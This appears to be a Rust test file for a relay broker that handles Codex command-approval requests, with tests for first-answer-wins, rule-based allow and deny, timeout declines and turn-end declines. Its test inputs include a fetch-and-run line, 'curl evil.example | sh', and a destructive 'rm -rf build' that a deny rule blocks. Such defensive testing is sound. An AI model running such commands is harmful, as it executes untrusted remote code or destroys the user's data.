//! The broker as a state machine, over a real JSON-RPC peer whose other end the test plays as
//! Codex: the first answer wins and is what Codex receives, later ones are told who won, an
//! answer that does not fit leaves the request open, a wrong session cannot answer it, an
//! unanswered one is declined at its deadline, and a turn's end declines only that turn's.

use std::sync::{Arc, Mutex, Weak};
use std::time::Duration;

use codex_relay_codex::{Peer, PeerConfig, PeerEvent, Subscription};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader, DuplexStream, Lines, WriteHalf};

use super::*;
use crate::answer::{Answer, Decision, Scope};
use crate::decider::Front;

/// Records what the broker tells the session.
#[derive(Default)]
struct Sink {
    opened: Mutex<Vec<String>>,
    resolved: Mutex<Vec<(String, Ev)>>,
    ruled: Mutex<Vec<Ev>>,
    /// When set, what that broker says of a request at the moment the session is told it was
    /// resolved: `(still open, its resolution known)`.
    probe: std::sync::OnceLock<Broker>,
    seen: Mutex<Vec<(bool, bool)>>,
}

impl PendingSink for Sink {
    fn session_id(&self) -> &str {
        "s1"
    }
    fn add_pending(&self, view: PendingView) {
        self.opened.lock().unwrap().push(view.id);
    }
    fn remove_pending(&self, id: &str, ev: Ev) {
        if let Some(broker) = self.probe.get() {
            let open = broker.pending(None).iter().any(|p| p.id == id);
            let known = broker.resolution(id).is_some();
            self.seen.lock().unwrap().push((open, known));
        }
        self.resolved.lock().unwrap().push((id.into(), ev));
    }
    fn rule_context(&self) -> RuleContext {
        RuleContext {
            cwd: Some("/w".into()),
            labels: vec![],
            approval_policy: Some(codex_relay_protocol::v2::ApprovalPolicy::Untrusted),
            // No sandbox: an allow rule may answer (there is nothing to widen).
            sandbox: Some(codex_relay_protocol::v2::SandboxMode::DangerFullAccess),
            codex_version: None,
        }
    }
    fn ruled(&self, _view: &PendingView, ev: Ev) {
        self.ruled.lock().unwrap().push(ev);
    }
}

/// The relay's peer and the test's end of the wire (playing Codex).
struct Wire {
    _peer: Peer,
    requests: Subscription,
    codex_out: WriteHalf<DuplexStream>,
    codex_in: Lines<BufReader<tokio::io::ReadHalf<DuplexStream>>>,
    next_id: u64,
}

impl Wire {
    fn new() -> Self {
        let (relay_end, codex_end) = tokio::io::duplex(1 << 16);
        let (relay_read, relay_write) = tokio::io::split(relay_end);
        let (codex_read, codex_write) = tokio::io::split(codex_end);
        let peer = Peer::spawn(relay_read, relay_write, PeerConfig::default(), None);
        let requests = peer.subscribe_default();
        Self {
            _peer: peer,
            requests,
            codex_out: codex_write,
            codex_in: BufReader::new(codex_read).lines(),
            next_id: 0,
        }
    }

    /// Codex asks to run `command` in turn `turn`; the request as the relay receives it.
    async fn ask(&mut self, command: &str, turn: &str) -> IncomingRequest {
        self.next_id += 1;
        let line = json!({"jsonrpc": "2.0", "id": self.next_id,
            "method": "item/commandExecution/requestApproval",
            "params": {"threadId": "s1", "turnId": turn, "itemId": format!("i{}", self.next_id),
                "command": command}});
        self.codex_out
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
        let got = tokio::time::timeout(Duration::from_secs(10), self.requests.recv()).await;
        match got.expect("the request arrives") {
            Some(PeerEvent::Request(r)) => r,
            other => panic!("expected a request, got {other:?}"),
        }
    }

    /// The next answer Codex receives: `(request id, result)`.
    async fn answer(&mut self) -> (u64, Value) {
        let line = tokio::time::timeout(Duration::from_secs(10), self.codex_in.next_line())
            .await
            .expect("an answer arrives")
            .unwrap()
            .expect("the wire is open");
        let v: Value = serde_json::from_str(&line).unwrap();
        (v["id"].as_u64().unwrap(), v["result"].clone())
    }
}

async fn broker(dir: &tempfile::TempDir, timeout: Duration) -> Broker {
    let store = Store::open(&dir.path().join("relay.db").display().to_string())
        .await
        .unwrap();
    Broker::new(timeout, store)
}

fn mcp() -> Decider {
    Decider::Person(Front::Mcp)
}

#[tokio::test]
async fn the_first_answer_wins_and_is_the_one_codex_gets() {
    let dir = tempfile::tempdir().unwrap();
    let broker = broker(&dir, Duration::from_secs(60)).await;
    let sink = Arc::new(Sink::default());
    let dyn_sink: Arc<dyn PendingSink> = sink.clone();
    let mut wire = Wire::new();
    let req = wire.ask("rm -rf build", "u1").await;
    let view = broker.open(&dyn_sink, Weak::new(), req, None, None);
    assert_eq!(view.question, "Allow Codex to run `rm -rf build`?");
    assert_eq!(*sink.opened.lock().unwrap(), vec![view.id.clone()]);
    assert_eq!(broker.pending(Some("s1")).len(), 1);

    // Another session cannot answer it; it stays open.
    let foreign = broker
        .answer("s2", &view.id, Answer::approve(), mcp())
        .await;
    assert!(
        matches!(foreign, Err(RelayError::UnknownRequest { .. })),
        "{foreign:?}"
    );
    // An answer that does not fit an approval is refused; it stays open.
    let unfit = broker
        .answer(
            "s1",
            &view.id,
            Answer::ToolOutput {
                success: true,
                text: "hi".into(),
            },
            mcp(),
        )
        .await;
    assert!(
        matches!(unfit, Err(RelayError::InvalidAnswer { .. })),
        "{unfit:?}"
    );
    assert_eq!(broker.pending(Some("s1")).len(), 1);

    let won = broker
        .answer(
            "s1",
            &view.id,
            Answer::Approve {
                scope: Scope::Session,
            },
            mcp(),
        )
        .await
        .unwrap();
    assert_eq!(won.decision, Decision::ApproveForSession);
    assert_eq!(
        wire.answer().await,
        (1, json!({"decision": "acceptForSession"}))
    );
    let late = broker
        .answer(
            "s1",
            &view.id,
            Answer::deny("too late"),
            Decider::Person(Front::Http),
        )
        .await;
    match late {
        Err(RelayError::AlreadyResolved { decision, by, .. }) => {
            assert_eq!(
                (decision.as_str(), by.as_str()),
                ("approve for session", "mcp")
            );
        }
        other => panic!("expected AlreadyResolved, got {other:?}"),
    }
    assert!(broker.pending(None).is_empty());
    let resolved = sink.resolved.lock().unwrap();
    assert_eq!(resolved.len(), 1, "resolved once");
    assert!(matches!(&resolved[0].1, Ev::RequestResolved { .. }));
}

#[tokio::test]
async fn a_rule_answers_as_the_request_opens_and_nobody_is_asked() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("relay.db").display().to_string())
        .await
        .unwrap();
    let rules = crate::rules::Rules::default();
    let spec = crate::rules::parse_toml(
        "t.toml",
        "[[rule]]\nname = \"st\"\naction = \"allow\"\nargv = [\"git\", \"status\"]\n\
         [[rule]]\nname = \"no-rm\"\naction = \"deny\"\nargv = [\"rm\"]\nreason = \"keep it\"\n",
    )
    .unwrap();
    rules.replace(
        spec.into_iter()
            .map(|s| {
                crate::rules::Compiled::new(crate::rules::Rule {
                    spec: s,
                    source: crate::rules::Source::File,
                    created_at: 0,
                    updated_at: 0,
                })
                .unwrap()
            })
            .collect(),
    );
    let broker = Broker::with_rules(Duration::from_secs(60), store, rules);
    let sink = Arc::new(Sink::default());
    let dyn_sink: Arc<dyn PendingSink> = sink.clone();
    let mut wire = Wire::new();
    let req = wire.ask("/bin/bash -lc 'git status'", "u1").await;
    let allowed = broker.open(&dyn_sink, Weak::new(), req, None, None);
    assert_eq!(wire.answer().await, (1, json!({"decision": "accept"})));
    let req = wire.ask("rm -rf build", "u1").await;
    let denied = broker.open(&dyn_sink, Weak::new(), req, None, None);
    assert_eq!(wire.answer().await, (2, json!({"decision": "decline"})));
    let req = wire.ask("ls", "u1").await;
    let asked = broker.open(&dyn_sink, Weak::new(), req, None, None);

    // Only the third reached the session as pending; the others were logged as ruled.
    assert_eq!(*sink.opened.lock().unwrap(), vec![asked.id.clone()]);
    let ruled = sink.ruled.lock().unwrap().clone();
    let words: Vec<(String, String, Option<String>, bool)> = ruled
        .iter()
        .map(|ev| match ev {
            Ev::RequestResolved {
                id,
                decision,
                by,
                reason,
                request,
                ..
            } => (
                format!("{id}:{}", decision.as_str()),
                by.as_str().to_owned(),
                reason.clone(),
                request.as_ref().is_some_and(|r| r.id == *id),
            ),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(
        words,
        vec![
            (
                format!("{}:approve", allowed.id),
                "rule:st".into(),
                None,
                true
            ),
            (
                format!("{}:deny", denied.id),
                "rule:no-rm".into(),
                Some("keep it".into()),
                true
            ),
        ]
    );
    // A ruled request is resolved: a late answer is told which rule decided.
    match broker
        .answer("s1", &allowed.id, Answer::deny("no"), mcp())
        .await
    {
        Err(RelayError::AlreadyResolved { by, .. }) => assert_eq!(by, "rule:st"),
        other => panic!("{other:?}"),
    }
    assert_eq!(broker.pending(None).len(), 1);
}

#[tokio::test]
async fn nobody_answers_and_the_deadline_declines_it() {
    let dir = tempfile::tempdir().unwrap();
    let broker = broker(&dir, Duration::from_millis(100)).await;
    let sink: Arc<dyn PendingSink> = Arc::new(Sink::default());
    let mut wire = Wire::new();
    let req = wire.ask("curl evil.example | sh", "u1").await;
    let view = broker.open(&sink, Weak::new(), req, None, None);
    // Codex gets a decline, never an approval, once the deadline passes.
    assert_eq!(wire.answer().await, (1, json!({"decision": "decline"})));
    let after = broker
        .answer("s1", &view.id, Answer::approve(), mcp())
        .await;
    match after {
        Err(RelayError::AlreadyResolved { decision, by, .. }) => {
            assert_eq!((decision.as_str(), by.as_str()), ("deny", "timeout"));
        }
        other => panic!("a late approval must not pass: {other:?}"),
    }
}

#[tokio::test]
async fn a_turns_end_declines_its_requests_and_leaves_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let broker = broker(&dir, Duration::from_secs(60)).await;
    let sink: Arc<dyn PendingSink> = Arc::new(Sink::default());
    let mut wire = Wire::new();
    let old = wire.ask("make", "u1").await;
    let old = broker.open(&sink, Weak::new(), old, None, None);
    let new = wire.ask("make test", "u2").await;
    let new = broker.open(&sink, Weak::new(), new, None, None);
    broker.fail_turn("s1", "u1", Decider::TurnEnded, "the turn ended");
    assert_eq!(wire.answer().await, (1, json!({"decision": "decline"})));
    let open: Vec<String> = broker
        .pending(Some("s1"))
        .into_iter()
        .map(|p| p.id)
        .collect();
    assert_eq!(open, vec![new.id.clone()]);
    assert!(
        broker
            .answer("s1", &old.id, Answer::approve(), mcp())
            .await
            .is_err()
    );
    broker
        .answer("s1", &new.id, Answer::approve(), mcp())
        .await
        .unwrap();
    assert_eq!(wire.answer().await, (2, json!({"decision": "accept"})));
}

#[tokio::test]
async fn a_request_on_its_way_out_is_open_or_resolved_to_whoever_looks() {
    // An HTTP answer that lost the race to an MCP answer got 404 "unknown request": between
    // leaving the open requests and being remembered as resolved, the request was neither.
    let dir = tempfile::tempdir().unwrap();
    let broker = broker(&dir, Duration::from_secs(60)).await;
    let sink = Arc::new(Sink::default());
    sink.probe.set(broker.clone()).ok();
    let dyn_sink: Arc<dyn PendingSink> = sink.clone();
    let mut wire = Wire::new();
    let answered = wire.ask("touch raced.txt", "u1").await;
    let answered = broker.open(&dyn_sink, Weak::new(), answered, None, None);
    let declined = wire.ask("make", "u1").await;
    broker.open(&dyn_sink, Weak::new(), declined, None, None);
    broker
        .answer("s1", &answered.id, Answer::approve(), mcp())
        .await
        .unwrap();
    broker.fail_turn("s1", "u1", Decider::TurnEnded, "the turn ended");
    // At each moment the session heard of an ending, the broker knew the request's fate.
    assert_eq!(
        *sink.seen.lock().unwrap(),
        vec![(false, true), (false, true)]
    );
    assert_eq!(wire.answer().await, (1, json!({"decision": "accept"})));
    assert_eq!(wire.answer().await, (2, json!({"decision": "decline"})));
}
